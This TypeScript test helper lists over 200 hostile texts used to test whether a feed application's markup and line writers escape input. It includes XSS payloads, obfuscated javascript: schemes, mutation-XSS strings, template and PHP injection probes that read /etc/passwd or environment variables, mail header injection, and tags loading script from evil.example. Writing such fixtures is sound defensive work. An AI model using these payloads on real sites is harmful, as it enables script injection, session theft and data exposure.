// test/helpers/hostile-texts.ts: texts that try to become markup or script where they are shown.

/** Ways to write the scheme of a script. */
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\nscript:",
  "java\tscript:",
  "\u0001javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "&#x6A;avascript&#58;",
  "java&NewLine;script:",
  "javascript%3A",
  "vbscript:",
  "data:text/html,",
  "data:text/html;base64,",
  "data:image/svg+xml,",
  "blob:https://alice.example/",
  "file:///etc/",
  "filesystem:https://alice.example/",
  "view-source:https://alice.example/",
  "//evil.example/",
];

/** Ways to name a URL in a text. */
const LINKS: ((url: string) => string)[] = [
  (url) => `[click](${url}alert(1))`,
  (url) => `![click](${url}alert(1))`,
  (url) => `<${url}alert(1)>`,
  (url) => `@<bob ${url}alert(1)>`,
  (url) => `[![a](${url}alert(1))](${url}alert(2))`,
];

const TAGS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  "<style>*{background:url(//evil.example)}</style>",
  "<base href=//evil.example/>",
  "<template><script>alert(1)</script></template>",
  "<custom-element onclick=alert(1)>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<em onmouseover="alert(1)">x</em>',
  '<code class="x" id="location">x</code>',
  '<a id="location" name="body">x</a>',
];

/** What changes its meaning when a browser parses it for the second time. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
  "<title><img title='</title><img src=x onerror=alert(1)>'>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
  "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<plaintext><img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "```\n<script>alert(1)</script>\n```",
  "``` `<img src=x onerror=alert(1)>` ```",
  "**<img src=x onerror=alert(1)>**",
  '[x](https://ok.example "onmouseover=alert(1) x=\\"")',
  '[x](https://ok.example"onmouseover="alert(1))',
  '[x](<https://ok.example" onclick="alert(1)>)',
  "[a [b](https://one.example) c](https://two.example)",
  "[a @<bob https://bob.example/twtxt.txt> b](https://two.example)",
  '@<"><script>alert(1)</script> https://bob.example/twtxt.txt>',
  '@<bob https://bob.example/"><script>alert(1)</script>>',
  "@<bob https://bob.example/'onclick='alert(1)>",
  'https://ok.example/"onmouseover="alert(1)',
  "https://ok.example/<script>alert(1)</script>",
  'www.ok.example/"><script>alert(1)</script>',
  "(#abcdefg) <script>alert(1)</script>",
  '(#<abcdefg https://bob.example/"><img src=x onerror=alert(1)>>) x',
];

/** What a template language, a feed, a mail or a terminal would read. */
const OTHER_SYNTAX = [
  "{{ 7 * 7 }}",
  "{% raw %}{% include '/etc/passwd' %}",
  "{{ constructor.constructor('alert(1)')() }}",
  `\${alert(1)}`,
  "<%= process.env %>",
  "<?php system('id') ?>",
  "#{7*7}",
  `[[\${7*7}]]`,
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "</p></li></ol><script>alert(1)</script>",
  "</twtxt-mentions><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "'\"><img src=x onerror=alert(1)>",
  "\u2028<script>alert(1)</script>",
  "\u0000<script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "\ue0000\ue001<script>alert(1)</script>",
  "\u202e<script>alert(1)</script>",
  "\u001b[31mred\u001b]8;;javascript:alert(1)\u0007x",
  "a\r\nBcc: eve@evil.example\r\n\r\n<script>alert(1)</script>",
  "2026-01-01T00:00:00Z\tforged\n# nick = eve",
];

/** Characters that could forge a line in a feed. */
export const FORGING_CHARACTER = /[\x00-\x1f\x7f-\x9f\u2028\u2029]/;

/** Over 200 texts, for the functions that write markup or lines. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
  ...TAGS.flatMap((tag) => [tag, `[${tag}](https://ok.example)`]),
  ...MUTATIONS,
  ...OTHER_SYNTAX,
];

/**
 * Each scheme, each way to name it and all that could forge a line, but not all combinations: for tests in which a text
 * passes through a whole build or request.
 */
export const SOME_HOSTILE_TEXTS = HOSTILE_TEXTS.filter((text, n) => n % 3 === 0 || FORGING_CHARACTER.test(text));
